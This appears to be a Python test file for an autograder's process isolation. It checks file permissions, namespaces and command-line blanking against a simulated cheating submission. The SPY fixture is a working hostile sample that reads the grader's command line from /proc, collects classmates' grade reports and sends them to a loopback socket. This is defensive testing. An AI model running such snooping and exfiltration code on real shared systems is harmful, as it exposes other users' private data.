"""The ``uid`` isolation level against a classmate spy (issue 22, route 7): a submission finds
the gradebook's ``--out`` path in the grader's ``/proc/<pid>/cmdline``, reads the per-student
reports and sends them to a loopback listener.  Three defenses, each tested on its own:

* every grading output is private (files 0600, the reports folder 0700) at every level;
* the child enters its own mount/network/IPC/UTS namespaces with a ``hidepid`` ``/proc`` where
  the kernel allows it (root outside an unprivileged container): no grader command line, no
  other process, no network;
* the grader blanks its own command line, for machines where the second is refused.
"""

from __future__ import annotations

import json
import os
import socket
import stat
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from gradref.checks.grading.batch import grade_all
from gradref.checks.isolation import Limits, PythonSubmission, process

HERE = Path(__file__).resolve().parent
CORRECT = (HERE / "grading_fixtures" / "step_correct.py").read_text()
ROOT = os.geteuid() == 0
needs_root = pytest.mark.skipif(not ROOT, reason="the uid level needs a root grader")
MiB = 2**20
LIMITS = Limits(wall=5.0, cpu=5.0, memory=512 * MiB, processes=32, output=4096, load=10.0)

SPY = textwrap.dedent('''
    import glob, os, socket

    def _loot():
        found = []
        for name in glob.glob("/proc/*/cmdline"):
            try:
                words = open(name, "rb").read().decode("utf-8", "replace").split("\\0")
            except OSError:
                continue
            for i, word in enumerate(words[:-1]):
                if word == "--out":
                    base = words[i + 1][:-4]
                    for path in [words[i + 1]] + glob.glob(base + "_reports/*.json"):
                        try:
                            found.append(path + ": " + open(path).read()[:120])
                        except OSError:
                            found.append(path + ": unreadable")
        return found

    def compute_cost(AL, Y):
        loot = _loot()
        try:
            with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
                connection.sendall(repr(loot).encode())
        except OSError as error:
            loot.append("not sent: " + type(error).__name__)
        raise RuntimeError(repr(loot))
''')


@needs_root
def test_a_uid_level_spy_learns_and_sends_no_classmate_grade(tmp_path):
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(4)
    listener.setblocking(False)
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "alice.py").write_text(CORRECT)
    (folder / "zed.py").write_text(SPY.replace("PORT", str(listener.getsockname()[1])))
    for path in folder.iterdir():
        path.chmod(0o644)
    out = tmp_path / "out"
    out.mkdir()
    out.chmod(0o755)
    tmp_path.chmod(0o755)
    env = {**os.environ, "GRADREF_ISOLATION": "uid"}
    try:
        done = subprocess.run([sys.executable, "-m", "gradref", "grade-all", str(folder),
                               "--out", str(out / "grades.csv"), "--jobs", "1"],
                              env=env, capture_output=True, text=True, timeout=300)
        assert done.returncode == 0, done.stdout + done.stderr
        with pytest.raises(BlockingIOError):
            listener.accept()
    finally:
        listener.close()
    report = (out / "grades_reports" / "zed.json").read_text()
    assert "grades_reports" not in report and "100 / 100" not in report, report
    assert "RuntimeError: [" in report     # the spy ran, and found nothing
    for path in (out / "grades.csv", out / "grades_reports" / "alice.json",
                 out / "grades_summary.md", out / "grades_summary.html"):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert stat.S_IMODE((out / "grades_reports").stat().st_mode) == 0o700


def test_every_grading_output_is_private_whatever_the_umask(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "alice.py").write_text(CORRECT)
    (tmp_path / "grades_reports").mkdir(mode=0o755)     # left by an older run
    old = os.umask(0o002)
    try:
        grade_all(folder, tmp_path / "grades.csv", jobs=1)
        from gradref.checks.cli import main

        assert main(["grade", str(folder / "alice.py"), "--format", "json",
                     "--out", str(tmp_path / "alice.json")]) == 0
    finally:
        os.umask(old)
    written = [tmp_path / "grades.csv", tmp_path / "alice.json",
               *(tmp_path / "grades_reports").iterdir()]
    assert len(written) == 3
    for path in written:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert stat.S_IMODE((tmp_path / "grades_reports").stat().st_mode) == 0o700


LOOK = textwrap.dedent('''
    import os, socket
    def look(grader, port):
        uids = set()
        for name in os.listdir("/proc"):
            if name.isdigit():
                try:
                    uids.add(os.stat("/proc/" + name).st_uid)
                except OSError:
                    pass
        try:
            words = open(f"/proc/{grader}/cmdline", "rb").read().split(b"\\0")
            cmdline = [w.decode() for w in words if w]
        except OSError:
            cmdline = None
        try:
            socket.create_connection(("127.0.0.1", port), timeout=2).close()
            network = True
        except OSError:
            network = False
        return sorted(uids), cmdline, network, os.getuid()
''')


@needs_root
def test_a_uid_level_child_sees_only_its_own_processes_and_no_network():
    if process.private_namespaces_problem() is not None:
        pytest.skip(f"no private namespaces here: {process.private_namespaces_problem()}")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    try:
        with PythonSubmission(LOOK, limits=LIMITS, isolation="uid") as sub:
            seen = sub.call("look", os.getpid(), listener.getsockname()[1])
    finally:
        listener.close()
    assert seen.ok, seen
    uids, cmdline, network, uid = seen.value
    assert uids == [uid] and cmdline is None and network is False, seen.value


@needs_root
def test_without_private_namespaces_the_grader_command_line_is_still_blank(tmp_path):
    """An unprivileged container refuses the namespaces: the grader's own blanking is left."""
    marker = str(tmp_path / "SECRET-gradebook.csv")
    script = textwrap.dedent(f'''
        import json, os, sys
        from gradref.checks.isolation import Limits, PythonSubmission, process
        process._private_problem[:] = ["refused (test)"]
        with PythonSubmission({LOOK!r}, limits=Limits(memory=512 * 2**20),
                              isolation="uid") as sub:
            seen = sub.call("look", os.getpid(), 9)
        print(json.dumps(seen.value))
    ''')
    done = subprocess.run([sys.executable, "-c", script, "--out", marker],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    uids, cmdline, _network, _uid = json.loads(done.stdout.strip().splitlines()[-1])
    assert len(uids) > 1                    # the oracle: it does share the host's /proc ...
    assert cmdline == [Path(sys.executable).name] or cmdline == [sys.executable], cmdline
    assert marker not in " ".join(cmdline)  # ... but reads nothing past the program's name
